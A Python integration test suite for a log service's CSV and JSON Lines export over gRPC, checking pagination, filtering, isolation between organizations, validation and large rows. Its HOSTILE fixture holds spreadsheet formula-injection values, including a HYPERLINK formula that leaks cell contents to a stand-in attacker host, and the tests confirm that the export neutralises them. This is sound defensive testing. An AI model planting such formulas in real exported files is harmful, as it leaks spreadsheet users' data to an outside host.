"""ExportRequests over gRPC on real ClickHouse 18.16 and AuthService: the file a user downloads.

An export is read back with Python's csv and json modules and compared, field by field, with what
QueryRequests returns for the same filter and sort. The service reads 7 rows a page here, so every export
below crosses many pages: each row must come exactly once and in order.
"""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import AsyncIterator, Iterator
from typing import Any

import grpc
import pytest
from google.protobuf import struct_pb2

from candela.auth.v1 import auth_service_pb2 as auth_pb
from candela.auth.v1 import auth_service_pb2_grpc
from candela.logs.v1 import log_record_pb2
from candela.query.v1 import query_service_pb2 as pb
from candela.query.v1 import query_service_pb2_grpc
from candela_ingest.writer.rows import clickhouse_row
from candela_query.app import QueryDeps, create_server
from candela_query.body_reader import BodyReader
from candela_query.clickhouse import ClickHouseReader
from candela_query.config import QueryConfig
from candela_runtime.errors import bad_request_violations, rpc_error_status
from candela_runtime.security import KeyAuthenticator
from candela_stack.stack import Component, Stack, StackConfig
from tests.conftest import SERVICE_TOKEN
from tests.integration.conftest import AuthServer, bearer, create_key, create_organization
from tests.integration.query_support import DriverRunner, insert_rows, make_record, make_rows

pytestmark = pytest.mark.integration

PAGE_SIZE = 7
ROWS = 150
BIG_ROWS = 5
BIG_ERROR_BYTES = 1_500_000
"""Five rows of 1.5 MB make one 7.5 MB page: more than a gRPC message may hold by default (4 MiB)."""
HEADER = [
    "request_id",
    "created_at",
    "provider",
    "model",
    "response_model",
    "path",
    "status_code",
    "latency_ms",
    "time_to_first_token_ms",
    "prompt_tokens",
    "completion_tokens",
    "total_tokens",
    "cache_read_tokens",
    "cache_write_tokens",
    "reasoning_tokens",
    "cost_usd",
    "streamed",
    "cache_hit",
    "user_id",
    "session_id",
    "session_path",
    "session_name",
    "prompt_id",
    "prompt_version",
    "api_key_id",
    "finish_reason",
    "trace_id",
    "properties",
    "error",
]
TEXT_COLUMNS = {
    "request_id": "request_id",
    "provider": "provider",
    "model": "model",
    "response_model": "response_model",
    "path": "path",
    "user_id": "user_id",
    "session_id": "session_id",
    "session_path": "session_path",
    "session_name": "session_name",
    "prompt_id": "prompt_id",
    "prompt_version": "prompt_version",
    "api_key_id": "api_key_id",
    "finish_reason": "finish_reason",
    "trace_id": "trace_id",
    "error": "error",
}
"""Export column -> LogRecord field, for the text columns."""
USAGE_COLUMNS = (
    "prompt_tokens",
    "completion_tokens",
    "total_tokens",
    "cache_read_tokens",
    "cache_write_tokens",
    "reasoning_tokens",
)
HOSTILE = {
    "user_id": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "session_name": "+1",
    "session_path": "-2",
    "error": "@x, with a comma",
    "prompt_id": "\tindented",
    "finish_reason": "\rreturned",
    "model": 'gpt "quoted", model',
    "session_id": "line one\nline two\r\nline three",
    "response_model": "Élodie 日本語 🚀 — naïve",
}
"""Text a spreadsheet would run, or that breaks naive CSV, put in one logged request's fields."""


@pytest.fixture(scope="module")
def clickhouse(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """ClickHouse 18.16 and the S3 store the query service checks at start."""
    config = StackConfig.for_tests(
        tmp_path_factory.mktemp("ch"), components=frozenset({Component.CLICKHOUSE, Component.S3})
    )
    with Stack(config) as stack:
        yield stack


class Fixture:
    """A running query service reading 7 rows a page, two organizations' read keys and the hostile row."""

    def __init__(self, channel: grpc.aio.Channel, key: str, other_key: str, big_key: str, hostile_id: str) -> None:
        self.stub: query_service_pb2_grpc.QueryServiceAsyncStub = query_service_pb2_grpc.QueryServiceStub(channel)
        self.key = key
        self.other_key = other_key
        self.big_key = big_key
        self.hostile_id = hostile_id


@pytest.fixture(scope="module")
async def service(
    clickhouse: Stack, auth_server: AuthServer, auth_stub: auth_service_pb2_grpc.AuthServiceAsyncStub
) -> AsyncIterator[Fixture]:
    org = await create_organization(auth_stub, "Export Co")
    other = await create_organization(auth_stub, "Export Other Co")
    key = (await create_key(auth_stub, org, auth_pb.API_KEY_SCOPE_READ)).secret
    other_key = (await create_key(auth_stub, other, auth_pb.API_KEY_SCOPE_READ)).secret
    big = await create_organization(auth_stub, "Export Long Rows Co")
    big_key = (await create_key(auth_stub, big, auth_pb.API_KEY_SCOPE_READ)).secret
    long_rows = []
    for index in range(BIG_ROWS):
        message = make_record(random.Random(index), big, index)
        message.record.error = f"{index}:" + "x" * BIG_ERROR_BYTES
        long_rows.append(clickhouse_row(message, version=2))
    hostile = make_record(random.Random(99), org, 10_000)
    for name, value in HOSTILE.items():
        setattr(hostile.record, name, value)
    hostile.record.properties["formula"] = "=1+2"
    hostile.record.properties["note"] = 'multi\nline, "quoted"'
    hostile.record.cost_usd = "0.000000001"
    loader = DriverRunner.of(clickhouse)
    # Both organizations' rows, each with stale older copies of some (as a redelivery leaves them).
    insert_rows(loader.client, [*make_rows([org, other], ROWS, seed=11), clickhouse_row(hostile, version=2)])
    insert_rows(loader.client, long_rows)
    loader.close()
    reader = ClickHouseReader(
        clickhouse.clickhouse_host,
        clickhouse.clickhouse_port,
        clickhouse.clickhouse_database,
        2,
        user=clickhouse.clickhouse_user,
        password=clickhouse.clickhouse_password,
    )
    config = QueryConfig(
        service_token=SERVICE_TOKEN,
        auth_addr=auth_server.address,
        s3_endpoint=clickhouse.s3_endpoint,
        s3_access_key=clickhouse.s3_access_key,
        s3_secret_key=clickhouse.s3_secret_key,
        s3_bucket=clickhouse.s3_bucket,
        max_page_size=1000,
        export_page_size=PAGE_SIZE,
    )
    async with grpc.aio.insecure_channel(auth_server.address) as auth_channel:
        deps = QueryDeps(
            clickhouse=reader,
            bodies=BodyReader(
                config.s3_endpoint, config.s3_access_key, config.s3_secret_key, config.s3_bucket, config.s3_region
            ),
            auth_channel=auth_channel,
            authenticator=KeyAuthenticator(auth_service_pb2_grpc.AuthServiceStub(auth_channel), SERVICE_TOKEN),
        )
        server = await create_server(config, deps)
        await server.set_serving()
        async with grpc.aio.insecure_channel(f"127.0.0.1:{server.port}") as channel:
            yield Fixture(channel, key, other_key, big_key, hostile.record.request_id)
        await server.stop(1)
    reader.close()


class Export:
    """What an export call sent: its chunks, its response metadata and the file they make."""

    def __init__(self, chunks: list[Any], metadata: dict[str, str]) -> None:
        self.chunks = chunks
        self.metadata = metadata
        self.data = b"".join(chunk.data for chunk in chunks)

    def csv_rows(self) -> list[dict[str, str]]:
        """The CSV file's rows, read by Python's csv module (after checking the header and line ends)."""
        # Python's reader refuses cells over 128 KiB unless told otherwise; the long rows' are 1.5 MB.
        csv.field_size_limit(max(csv.field_size_limit(), 2 * BIG_ERROR_BYTES))
        reader = csv.reader(io.StringIO(self.data.decode("utf-8"), newline=""))
        header = next(reader)
        assert header == HEADER
        return [dict(zip(header, row, strict=True)) for row in reader]

    def json_rows(self) -> list[dict[str, Any]]:
        """The JSON Lines file's objects, one a line."""
        text = self.data.decode("utf-8")
        assert text.endswith("\n")
        return [json.loads(line) for line in text.split("\n")[:-1]]


async def export(service: Fixture, request: pb.ExportRequestsRequest, key: str | None = None) -> Export:
    call = service.stub.ExportRequests(request, metadata=bearer(key or service.key))
    chunks = [chunk async for chunk in call]
    metadata = {str(name): str(value) for name, value in await call.initial_metadata()}
    return Export(chunks, metadata)


async def query_all(service: Fixture, request_filter: pb.RequestFilter, sort: pb.RequestSort) -> list[Any]:
    """Every record QueryRequests gives for the filter and sort, page after page."""
    records: list[log_record_pb2.LogRecord] = []
    cursor = ""
    while True:
        response = await service.stub.QueryRequests(
            pb.QueryRequestsRequest(filter=request_filter, sort=sort, limit=1000, cursor=cursor),
            metadata=bearer(service.key),
        )
        records.extend(response.requests)
        if not response.HasField("next_cursor"):
            return records
        cursor = response.next_cursor


def csv_text(value: str) -> str:
    """A text cell as the export must write it: a formula's first character behind a single quote."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def expected_csv(record: log_record_pb2.LogRecord) -> dict[str, str]:
    row = {column: csv_text(getattr(record, field)) for column, field in TEXT_COLUMNS.items()}
    row.update({column: str(getattr(record.usage, column)) for column in USAGE_COLUMNS})
    row["created_at"] = record.created_at.ToJsonString()
    row["status_code"] = str(record.status_code)
    row["latency_ms"] = str(record.latency_ms)
    row["time_to_first_token_ms"] = (
        str(record.time_to_first_token_ms) if record.HasField("time_to_first_token_ms") else ""
    )
    row["cost_usd"] = record.cost_usd if record.HasField("cost_usd") else ""
    row["streamed"] = "true" if record.streamed else "false"
    row["cache_hit"] = "true" if record.cache_hit else "false"
    row["properties"] = json.dumps(dict(record.properties), ensure_ascii=False)
    return row


def expected_json(record: log_record_pb2.LogRecord) -> dict[str, Any]:
    row: dict[str, Any] = {column: getattr(record, field) for column, field in TEXT_COLUMNS.items()}
    row.update({column: getattr(record.usage, column) for column in USAGE_COLUMNS})
    row["created_at"] = record.created_at.ToJsonString()
    row["status_code"] = record.status_code
    row["latency_ms"] = record.latency_ms
    row["time_to_first_token_ms"] = record.time_to_first_token_ms if record.HasField("time_to_first_token_ms") else None
    row["cost_usd"] = record.cost_usd if record.HasField("cost_usd") else None
    row["streamed"] = record.streamed
    row["cache_hit"] = record.cache_hit
    row["properties"] = dict(record.properties)
    return row


def _csv_comparable(row: dict[str, str]) -> dict[str, Any]:
    """A parsed CSV row with its properties cell read as JSON (key order is not the contract)."""
    return {**row, "properties": json.loads(row["properties"])}


def text_condition(field: str, operator: str, value: str, key: str = "") -> pb.FilterCondition:
    return pb.FilterCondition(
        field=field, operator=operator, value=struct_pb2.Value(string_value=value), property_key=key
    )


async def test_csv_holds_every_row_query_requests_shows_field_by_field_across_pages(service: Fixture) -> None:
    sort = pb.RequestSort(field="created_at")
    records = await query_all(service, pb.RequestFilter(), sort)
    assert len(records) == ROWS + 1
    exported = await export(service, pb.ExportRequestsRequest(format=pb.EXPORT_FORMAT_CSV, sort=sort))
    assert exported.chunks[0].content_type == "text/csv; charset=utf-8"
    # A header chunk, then one chunk per page read: the file was sent as it was read.
    assert len(exported.chunks) == 1 + -(-(ROWS + 1) // PAGE_SIZE)
    assert exported.metadata["content-disposition"] == 'attachment; filename="candela-requests.csv"'
    assert exported.data.count(b"\r\n") >= ROWS + 2  # RFC 4180 line ends
    rows = exported.csv_rows()
    assert [row["request_id"] for row in rows] == [record.request_id for record in records]
    for row, record in zip(rows, records, strict=True):
        assert _csv_comparable(row) == _csv_comparable(expected_csv(record))
    assert not any(row["model"] == "stale-copy" for row in rows)


async def test_jsonl_holds_every_row_query_requests_shows_field_by_field_sorted_by_cost(service: Fixture) -> None:
    sort = pb.RequestSort(field="cost_usd", ascending=True)
    records = await query_all(service, pb.RequestFilter(), sort)
    exported = await export(service, pb.ExportRequestsRequest(format=pb.EXPORT_FORMAT_JSONL, sort=sort))
    assert exported.chunks[0].content_type == "application/x-ndjson; charset=utf-8"
    assert exported.metadata["content-disposition"] == 'attachment; filename="candela-requests.jsonl"'
    rows = exported.json_rows()
    assert len(rows) == len({row["request_id"] for row in rows}) == ROWS + 1
    assert rows == [expected_json(record) for record in records]
    assert list(rows[0]) == HEADER


async def test_filter_sort_and_row_cap_are_honoured(service: Fixture) -> None:
    request_filter = pb.RequestFilter(
        any=[
            pb.RequestFilter(conditions=[text_condition("provider", "equals", "anthropic")]),
            pb.RequestFilter(conditions=[text_condition("property", "equals", "search", key="FEATURE")]),
        ]
    )
    sort = pb.RequestSort(field="latency_ms")
    records = await query_all(service, request_filter, sort)
    assert 20 < len(records) < ROWS
    request = pb.ExportRequestsRequest(format=pb.EXPORT_FORMAT_JSONL, filter=request_filter, sort=sort)
    rows = (await export(service, request)).json_rows()
    assert [row["request_id"] for row in rows] == [record.request_id for record in records]
    assert all(row["provider"] == "anthropic" or row["properties"].get("feature") == "search" for row in rows)
    request.max_rows = 10
    capped = (await export(service, request)).json_rows()
    assert [row["request_id"] for row in capped] == [record.request_id for record in records[:10]]


async def test_another_organization_never_sees_these_rows(service: Fixture) -> None:
    mine = {
        row["request_id"]
        for row in (await export(service, pb.ExportRequestsRequest(format=pb.EXPORT_FORMAT_CSV))).csv_rows()
    }
    theirs = (
        await export(service, pb.ExportRequestsRequest(format=pb.EXPORT_FORMAT_CSV), key=service.other_key)
    ).csv_rows()
    assert len(theirs) == ROWS
    assert mine.isdisjoint(row["request_id"] for row in theirs)
    assert service.hostile_id in mine


async def test_hostile_text_round_trips_with_the_formula_guard_on_text_only(service: Fixture) -> None:
    only_hostile = pb.RequestFilter(conditions=[text_condition("request_id", "equals", service.hostile_id)])
    (row,) = (
        await export(service, pb.ExportRequestsRequest(format=pb.EXPORT_FORMAT_CSV, filter=only_hostile))
    ).csv_rows()
    for column, value in HOSTILE.items():
        expected = "'" + value if value[0] in "=+-@\t\r" else value
        assert row[column] == expected, column
    # The properties cell is JSON (it starts with "{", so no guard); its values are kept exactly.
    properties = json.loads(row["properties"])
    assert (properties["formula"], properties["note"]) == ("=1+2", 'multi\nline, "quoted"')
    # Numbers are numbers: no quote in front, readable as they are.
    assert row["cost_usd"] == "0.000000001"
    for column in ("status_code", "latency_ms", *USAGE_COLUMNS):
        assert row[column] == str(int(row[column])), column
    (line,) = (
        await export(service, pb.ExportRequestsRequest(format=pb.EXPORT_FORMAT_JSONL, filter=only_hostile))
    ).json_rows()
    assert {column: line[column] for column in HOSTILE} == HOSTILE
    assert line["properties"]["formula"] == "=1+2"
    assert line["cost_usd"] == "0.000000001"


async def violations_of(call: Any) -> list[str]:
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        async for _ in call:
            pass
    assert caught.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    return [violation.field for violation in bad_request_violations(rpc_error_status(caught.value))]


async def test_bad_input_is_invalid_argument_naming_each_field(service: Fixture) -> None:
    bad = pb.ExportRequestsRequest(
        filter=pb.RequestFilter(conditions=[text_condition("no_such_field", "equals", "x")]),
        sort=pb.RequestSort(field="model"),
        max_rows=-1,
    )
    assert await violations_of(service.stub.ExportRequests(bad, metadata=bearer(service.key))) == [
        "filter.conditions[0].field",
        "sort.field",
        "format",
        "max_rows",
    ]
    unknown_format = pb.ExportRequestsRequest(format=7)  # type: ignore[arg-type]
    assert await violations_of(service.stub.ExportRequests(unknown_format, metadata=bearer(service.key))) == ["format"]


async def test_a_page_of_long_rows_is_split_into_messages_a_client_accepts(service: Fixture) -> None:
    exported = await export(service, pb.ExportRequestsRequest(format=pb.EXPORT_FORMAT_CSV), key=service.big_key)
    assert max(len(chunk.data) for chunk in exported.chunks) <= 1024 * 1024
    rows = exported.csv_rows()
    assert sorted(row["error"] for row in rows) == [f"{index}:" + "x" * BIG_ERROR_BYTES for index in range(BIG_ROWS)]
